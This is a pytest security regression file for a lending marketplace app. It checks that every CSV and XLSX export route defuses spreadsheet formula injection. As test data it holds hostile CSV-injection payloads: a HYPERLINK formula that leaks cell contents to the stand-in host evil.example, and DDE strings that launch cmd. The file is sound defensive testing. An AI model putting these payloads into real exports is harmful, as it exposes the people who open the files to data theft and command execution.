"""Spreadsheet exports carry no live formulas (issue 21, finding 6).

An institution named ``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` was written into the
lending-outcomes workbook as a formula. Every export route of the app — found from the app's own
routes, so a new export cannot ship untested — is fetched here with hostile text planted in the
data it exports: no XLSX cell may be a formula, and every CSV field that a spreadsheet would run
is prefixed with ``'``. A template that carries nothing a user wrote (the repayment upload's) is
held to the same checks without a plant, and stays in the routes that must be covered.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Annotated, Final

import fastapi
import numpy as np
import pytest
import yaml
from fastapi import FastAPI, Query
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from httpx2 import Response  # what the TestClient answers (starlette uses httpx2)
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

import factories
from creditbridge.access import service as access_service
from creditbridge.access.client import Signer
from creditbridge.access.models import Institution
from creditbridge.access.service.users import actor_for_user
from creditbridge.audit import service as audit
from creditbridge.catalog import service as catalog_service
from creditbridge.core.actors import CONSOLE, Actor, ActorKind, Role
from creditbridge.core.clock import utc_now
from creditbridge.core.config import Settings
from creditbridge.ingest.models import CollectionMetric, Provider, Reject
from creditbridge.marketplace import service as market_service
from creditbridge.marketplace.domain import WAN_FEN
from creditbridge.marketplace.models import Loan, Product
from creditbridge.presentation.exports import csv_cell, xlsx_cell
from creditbridge.reports.models import AggregateRun
from creditbridge.scoring import card_file
from creditbridge.subjects.models import Subject

from .conftest import LoggedIn
from .seed import seed_sample

# Regression trials of issue 21 (attack trial): `make audit-security` runs them.
pytestmark = pytest.mark.security

EVIL: Final = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
HOSTILE: Final = (
    EVIL,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
XLSX: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RUNS_AS_FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")

Login = Callable[..., LoggedIn]
Fetch = Callable[[TestClient, Session, Login], list[Response]]


# A route's last segment that names a spreadsheet: ``…/export``, ``…/template``, either with an
# extension (``export.csv``, ``template.{fmt}``), or any ``….csv`` / ``….xlsx``.
EXPORT_SHAPE: Final = re.compile(
    r"(?:/(?:export|template)(?:\.(?:csv|xlsx|\{[^/{}]+\}))?|\.(?:csv|xlsx))$"
)
SPREADSHEET_FORMAT: Final = re.compile(r"csv|xlsx")


def _offers_a_spreadsheet_format(route: object) -> bool:
    """A query or path parameter whose pattern admits ``csv`` or ``xlsx`` (``?format=csv``,
    ``template.{fmt}``): the route answers a spreadsheet whatever its path is called."""
    dependant = getattr(route, "dependant", None)
    if dependant is None:
        return False
    params = [*dependant.query_params, *dependant.path_params]
    for param in params:
        patterns = [getattr(m, "pattern", None) for m in param.field_info.metadata]
        if any(p and SPREADSHEET_FORMAT.search(p) for p in patterns):
            return True
    return False


def export_paths(app: FastAPI) -> set[str]:
    """Every route answering a spreadsheet: a path shaped like one (``…/export``,
    ``…/template``, ``….csv``, ``….xlsx``, ``…/template.{fmt}``), a route taking a
    ``csv``/``xlsx`` format parameter, or a route that documents a CSV or XLSX response."""
    found = set()
    for route in iter_route_contexts(app.routes):
        path = getattr(route, "path", None) or ""
        responses = getattr(route, "responses", None) or {}
        media = {m for answer in responses.values() for m in answer.get("content", {})}
        if (
            EXPORT_SHAPE.search(path)
            or media & {"text/csv", XLSX}
            or _offers_a_spreadsheet_format(route)
        ):
            found.add(path)
    return found


# --- planting hostile data and fetching each export --------------------------------------------


def _market_outcomes(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    seed_sample(session)
    session.execute(update(Institution).where(Institution.name == "徽商银行").values(name=EVIL))
    session.flush()
    login_as(Role.OPERATOR)
    return [
        client.get(f"/market/outcomes.xlsx?by={by}")
        for by in ("institution", "province", "city", "industry", "size")
    ]


def _aggregates(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    cell = {
        "key": EVIL,
        "suppressed": False,
        "enterprises": 12,
        "penalties": 3,
        "penalty_per_1000": 250.0,
        "penalised_bp": -100,
        "dishonest_bp": 0,
        "enforced_bp": 0,
    }
    session.add(
        AggregateRun(
            computed_at=utc_now(),
            computed_by=EVIL,
            enterprises=12,
            tax_window="=1+1",
            duration_ms=1,
            tables={"city": [cell], "section": [{"key": "+1+1", "suppressed": True}]},
        )
    )
    session.flush()
    login_as(Role.OPERATOR)
    return [client.get("/aggregates.xlsx")]


def _collection(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    provider = factories.provider(session, name=EVIL)
    now = datetime(2026, 10, 5, tzinfo=UTC)
    session.add(
        CollectionMetric(
            month="2026-09",
            dataset_code="tax_payment",
            city_code="340100",
            provider_id=provider.id,
            cadence="periodic",
            deadline_date=date(2026, 10, 15),
            deliveries_due=1,
            deliveries_made=0,
            deliveries_on_time=0,
            first_received_date=None,
            batches_applied=0,
            batches_refused=1,
            coverage_expected=10,
            coverage_covered=0,
            records_total=0,
            records_complete=0,
            as_of_at=now,
            computed_at=now,
        )
    )
    session.flush()
    login_as(Role.OPERATOR)
    return [client.get("/collection/export.xlsx?month=2026-09")]


def _audit(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    audit.record(
        session,
        Actor(ActorKind.USER, 7, EVIL, Role.OPERATOR),
        action="test.hostile",
        object_type="+1+1",
        object_id="-2+3",
        detail={"note": EVIL},
    )
    login_as(Role.AUDIT_ADMIN)
    return [client.get("/audit/export.csv")]


def _plant_rejects(session: Session, provider: Provider) -> int:
    batch = factories.batch(session, provider, status="refused")
    for row, value in enumerate(HOSTILE, start=2):
        session.add(
            Reject(
                batch_id=batch.id,
                row=row,
                field="uscc",
                label="统一社会信用代码",
                value=value,
                code="INGEST-USCC",
                message="统一社会信用代码格式不正确",
            )
        )
    session.flush()
    return batch.id


def _rejects_page(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    user = login_as(Role.PROVIDER_USER).user
    provider = session.get(Provider, user.provider_id)
    assert provider is not None
    batch_id = _plant_rejects(session, provider)
    return [client.get(f"/ingest/batches/{batch_id}/rejects.csv")]


def _rejects_api(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    provider = factories.provider(session)
    batch_id = _plant_rejects(session, provider)
    issued = access_service.create_client(
        session, CONSOLE, name="前置机", owner_kind="provider", algorithm="hmac-sm3",
        provider_id=provider.id, settings=Settings(),
    )  # fmt: skip
    signer = Signer(issued.client.key_id, secret=issued.secret)
    path = f"/api/v1/ingest/batches/{batch_id}/rejects"
    headers = signer.headers("GET", path, query="format=csv")
    return [client.get(f"{path}?format=csv", headers=headers)]


def _both(client: TestClient, path: str) -> list[Response]:
    return [client.get(path, params={"format": fmt}) for fmt in ("csv", "xlsx")]


def _enterprise(session: Session, login_as: Login) -> tuple[Actor, Subject]:
    """An enterprise user logged in through the pages, as the actor the services take."""
    user = login_as(Role.ENTERPRISE_USER).user
    subject = session.get(Subject, user.subject_id)
    assert subject is not None
    return actor_for_user(user), subject


def _bank(
    session: Session, *, name: str | None = None, product: str | None = None
) -> tuple[Institution, Product]:
    """An admitted institution with a published product, both named through the services."""
    catalog_service.ensure_default_catalog(session)
    bank = factories.institution(session, name=name)
    made = factories.product(session, bank, code="evil-p", name=product or f"{bank.name}产品")
    return bank, made


def _products(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    bank, _ = _bank(session, product=EVIL)
    login_as(Role.INSTITUTION_OFFICER, institution_id=bank.id)
    return [client.get("/market/products.csv")]


def _whitelist(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    catalog_service.ensure_default_catalog(session)
    for name in HOSTILE:
        subject = factories.subject(session, name=name)
        market_service.add_whitelist_candidate(
            session, CONSOLE, subject_id=subject.id, grade="AA", reasons=["grade"]
        )
    login_as(Role.OPERATOR)
    return [client.get("/market/whitelist.csv")]


def _my_demands(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    catalog_service.ensure_default_catalog(session)
    owner, _ = _enterprise(session, login_as)
    for purpose in HOSTILE:
        market_service.post_demand(
            session, owner, amount_fen=50 * WAN_FEN, term_months=12, purpose=purpose,
            security_types=["credit"],
        )  # fmt: skip
    return _both(client, "/market/demands/export")


def _my_loans(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    bank, product = _bank(session, name=EVIL)
    _, subject = _enterprise(session, login_as)
    session.add(
        Loan(
            subject_id=subject.id, institution_id=bank.id, product_id=product.id,
            amount_fen=40 * WAN_FEN, credit_line_fen=40 * WAN_FEN, rate_bp=420, term_months=12,
            security_type="credit", disbursement_date=date(2026, 6, 1),
            maturity_date=date(2027, 6, 1), status="current", created_at=utc_now(),
        )
    )  # fmt: skip
    session.flush()
    return _both(client, "/market/loans/export")


def _inbox(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    bank, product = _bank(session, product="+cmd|' /C calc'!A0")
    subject = factories.subject(session, name=EVIL)
    owner = factories.owner(subject, id=9001)
    demand = market_service.post_demand(
        session, owner, amount_fen=50 * WAN_FEN, term_months=12, purpose="采购原材料",
        security_types=["credit"],
    )  # fmt: skip
    market_service.apply(session, owner, demand_id=demand.id, product_id=product.id)
    login_as(Role.INSTITUTION_OFFICER, institution_id=bank.id)
    return _both(client, "/market/inbox/export")


def _pool(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    bank, _ = _bank(session)
    subject = factories.subject(session, name="@SUM(1+1)*cmd|' /C calc'!A0")
    market_service.post_demand(
        session, factories.owner(subject, id=9002), amount_fen=50 * WAN_FEN, term_months=12,
        purpose=EVIL, security_types=["credit"], mode="pool",
    )  # fmt: skip
    login_as(Role.INSTITUTION_OFFICER, institution_id=bank.id)
    return _both(client, "/market/pool/export")


def _batches(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    catalog_service.ensure_default_catalog(session)
    user = login_as(Role.PROVIDER_USER).user
    provider = session.get(Provider, user.provider_id)
    assert provider is not None
    provider.name = EVIL  # providers have no creating service; the login made this one
    session.flush()
    factories.batch(session, provider, status="refused", rows_total=1, rows_rejected=1)
    return _both(client, "/ingest/batches/export")


def _institutions(fmt: str) -> Fetch:
    def fetch(client: TestClient, session: Session, login_as: Login) -> list[Response]:
        factories.institution(session, code="evil-inst", name=EVIL)
        login_as(Role.OPERATOR)
        return [client.get(f"/operator/institutions/export.{fmt}")]

    return fetch


def _catalog_template(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    """A catalog file is the list a provider fills in: a label and a description planted in it
    reach every template of the dataset (the label as a header, the description in the
    XLSX's 填写说明 sheet)."""
    data = yaml.safe_load(catalog_service.BUNDLED_CATALOG_PATH.read_text(encoding="utf-8"))
    data["version"] = "hostile-1"
    dataset = data["datasets"][0]
    dataset["fields"][1]["label_zh"] = EVIL
    dataset["fields"][1]["description"] = "-2+3+cmd|' /C calc'!A0"
    text = yaml.safe_dump(data, allow_unicode=True)
    catalog_service.load_catalog(session, CONSOLE, text=text, source_name="hostile.yaml")
    code = dataset["code"]
    return [client.get(f"/catalog/{code}/template.{fmt}") for fmt in ("csv", "xlsx")]


EXPORTS: Final[dict[str, Fetch]] = {
    "/market/outcomes.xlsx": _market_outcomes,
    "/aggregates.xlsx": _aggregates,
    "/collection/export.xlsx": _collection,
    "/audit/export.csv": _audit,
    "/ingest/batches/{batch_id}/rejects.csv": _rejects_page,
    "/api/v1/ingest/batches/{batch_id}/rejects": _rejects_api,
    "/market/products.csv": _products,
    "/market/whitelist.csv": _whitelist,
    "/market/demands/export": _my_demands,
    "/market/loans/export": _my_loans,
    "/market/inbox/export": _inbox,
    "/market/pool/export": _pool,
    "/ingest/batches/export": _batches,
    "/operator/institutions/export.csv": _institutions("csv"),
    "/operator/institutions/export.xlsx": _institutions("xlsx"),
    "/catalog/{code}/template.{fmt}": _catalog_template,
}


def _repayment_template(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    bank, _ = _bank(session)
    login_as(Role.INSTITUTION_OFFICER, institution_id=bank.id)
    return _both(client, "/market/loans/upload/template")


# Exports that carry no data a user wrote (fixed headers and an example row): nothing hostile can
# be planted, so they are only checked to hold no formula and no field that runs.
TEMPLATES: Final[dict[str, Fetch]] = {
    "/market/loans/upload/template": _repayment_template,
}


# --- checks ------------------------------------------------------------------------------------


def assert_no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell of every sheet is a value, never a formula; returns the text cells."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_no_formula_in_csv(data: bytes) -> list[str]:
    """No field starts with what a spreadsheet runs (a bare signed number excepted); returns
    the fields."""
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    for field in fields:
        assert not field.startswith(RUNS_AS_FORMULA) or PLAIN_NUMBER.fullmatch(field), field
    return fields


def spreadsheet_texts(response: Response) -> list[str]:
    """The text cells of an XLSX or CSV answer, as a spreadsheet shows them, after checking
    that none of them runs."""
    assert response.status_code == 200, response.text
    kind = response.headers["content-type"]
    if kind.startswith(XLSX):
        return assert_no_formula_in_xlsx(response.content)
    assert kind.startswith("text/csv"), kind
    fields = assert_no_formula_in_csv(response.content)
    assert EVIL not in fields
    return [f.removeprefix("'") for f in fields if f.startswith("'")]


def test_every_export_route_is_covered(app: FastAPI) -> None:
    assert not set(EXPORTS) & set(TEMPLATES)
    assert export_paths(app) == set(EXPORTS) | set(TEMPLATES)


def test_export_paths_finds_each_shape_of_export_and_nothing_else() -> None:
    """The discovery itself: each way a route can answer a spreadsheet is found, and a page
    whose path merely mentions an export is not."""
    toy = FastAPI()

    @toy.get("/a/export")
    @toy.get("/a/template")
    @toy.get("/a/export.csv")
    @toy.get("/a/list.xlsx")
    def plain() -> None: ...

    @toy.get("/b/{code}/template.{fmt}")
    def by_path(code: str, fmt: Annotated[str, fastapi.Path(pattern="^(csv|xlsx)$")]) -> None: ...

    @toy.get("/c/list")
    def by_query(fmt: Annotated[str, Query(alias="format", pattern="^(csv|xlsx)$")]) -> None: ...

    @toy.get("/c/page")
    def not_a_format(q: Annotated[str, Query(pattern="^[a-z]+$")] = "") -> None: ...

    @toy.get("/d/rejects", responses={200: {"content": {"text/csv": {}}}})
    def documented() -> None: ...

    @toy.get("/e/exports")
    @toy.get("/e/export/help")
    @toy.get("/e/templates/{code}")
    @toy.get("/e/list")
    def pages(q: str = "") -> None: ...

    assert export_paths(toy) == {
        "/a/export", "/a/template", "/a/export.csv", "/a/list.xlsx",
        "/b/{code}/template.{fmt}", "/c/list", "/d/rejects",
    }  # fmt: skip


@pytest.mark.parametrize("path", sorted(EXPORTS))
def test_export_carries_no_live_formula(
    path: str, client: TestClient, session: Session, login_as: Login
) -> None:
    texts: list[str] = []
    for response in EXPORTS[path](client, session, login_as):
        texts += spreadsheet_texts(response)
    # The planted name reached the export, as the text it is.
    assert EVIL in texts


@pytest.mark.parametrize("path", sorted(TEMPLATES))
def test_template_carries_no_live_formula(
    path: str, client: TestClient, session: Session, login_as: Login
) -> None:
    responses = TEMPLATES[path](client, session, login_as)
    assert responses
    for response in responses:
        spreadsheet_texts(response)


def test_every_bundled_dataset_template_carries_no_live_formula(
    client: TestClient, session: Session
) -> None:
    """The shipped list's templates, every dataset and both formats: their example values
    (negative amounts, dates, codes) and guides hold nothing a spreadsheet runs."""
    catalog_service.ensure_default_catalog(session)
    codes = [d.code for d in catalog_service.list_datasets(session)]
    assert codes
    for code in codes:
        for fmt in ("csv", "xlsx"):
            spreadsheet_texts(client.get(f"/catalog/{code}/template.{fmt}"))


# --- the helper itself and the CLI's scored file ----------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_prefixes_what_would_run(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "shown"),
    [(-5, "-5"), (np.int64(-12), "-12"), (-1.5, "-1.5"), ("-12.50", "-12.50"), ("+3", "+3"),
     (None, ""), ("合肥市", "合肥市"), ("a=b", "a=b")],
)  # fmt: skip
def test_csv_cell_keeps_numbers_and_plain_text(value: object, shown: str) -> None:
    assert csv_cell(value) == shown


def test_xlsx_cell_types_formula_text_as_a_string() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([xlsx_cell(sheet, v) for v in (EVIL, -5, 1.5, "text")])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in row] == [
        (EVIL, "s"),
        (-5, "n"),
        (1.5, "n"),
        ("text", "s"),
    ]


def test_scored_file_defuses_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = card_file.Table(
        {
            "name": np.asarray([EVIL, "合肥"], dtype=object),
            "x": np.asarray(["-1.5", None], dtype=object),
        },
        2,
    )
    out = tmp_path / "scored.csv"
    card_file.write_scored(out, table, np.asarray([-3, 600], dtype=np.int64))
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows == [["name", "x", "score"], ["'" + EVIL, "-1.5", "-3"], ["合肥", "", "600"]]
